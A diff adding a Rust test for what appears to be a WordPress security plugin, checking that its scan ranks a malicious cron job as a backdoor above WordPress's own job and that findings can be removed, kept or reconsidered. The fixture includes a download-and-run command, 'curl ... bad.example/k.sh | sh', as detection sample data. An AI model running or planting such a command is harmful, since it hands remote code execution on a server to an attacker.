@@ -364,3 +364,42 @@ fn items_done_elsewhere_link_to_the_page_that_does_them() {
     assert_eq!(code, 1);
     assert!(err.contains("guide_url.en"), "{err}");
 }
+
+/// The review puts the cron job that downloads and runs a script above WordPress's own cron job,
+/// each with its level and reasons; a removed item leaves a "removed" line; a kept one can be
+/// decided again.
+#[test]
+fn findings_are_ranked_by_danger_with_their_reasons_and_removals_leave_a_line() {
+    let sim = Sim::start();
+    let b = sim.browser();
+    let url = format!("{}?view=sweep", b.plugin_url());
+    let page = b.get(&url);
+    let t = page.text();
+    let rogue = t.find("curl -s http://bad.example/k.sh | sh").expect("the rogue job is listed");
+    let wp_cron = t.find("/home/demo/public_html/wp-cron.php").expect("WordPress's job is listed");
+    assert!(rogue < wp_cron, "the job that downloads and runs a script comes first: {t}");
+    assert!(t[..rogue].contains("Backdoor: remove it"), "{t}");
+    assert!(t[rogue..].contains("Downloads code from the internet and runs it."), "{t}");
+    let before_wp = &t[..wp_cron];
+    assert!(before_wp[before_wp.rfind("Scheduled task").unwrap() - 12..].contains("Check it"), "{t}");
+
+    let id = finding_id(&page.body, "bad.example/k.sh", "remove_finding").unwrap();
+    assert_eq!(b.submit(&[("action", "remove_finding"), ("id", &id)]).status, 303);
+    let t = b.get(&url).text();
+    assert!(t.contains("Already removed"), "{t}");
+    let line = &t[t.find("Already removed").unwrap()..];
+    assert!(line.contains("Removed") && line.contains("curl -s http://bad.example/k.sh | sh"), "{line}");
+
+    let id = finding_id(&b.get(&url).body, "wp-cron.php", "keep_finding").unwrap();
+    assert_eq!(b.submit(&[("action", "keep_finding"), ("id", &id), ("reason", "WordPress's own")]).status, 303);
+    let page = b.get(&url);
+    assert!(page.text().contains("Kept : WordPress's own"), "{}", page.text());
+    let forms = |body: &str| body.matches(&format!("name=\"id\" value=\"{id}\"")).count();
+    assert_eq!(forms(&page.body), 1, "a kept item has only its undo");
+    let r = b.post_raw(&[("csrf", &page.csrf()), ("action", "unkeep_finding"), ("id", &id)]);
+    assert_eq!(r.status, 303);
+    assert!(r.header("location").unwrap().ends_with(&format!("?view=sweep#f-{id}")));
+    let page = b.get(&url);
+    assert_eq!(forms(&page.body), 2, "decided again: remove or keep");
+    assert!(sim.audit_log().contains("finding_unkept"));
+}
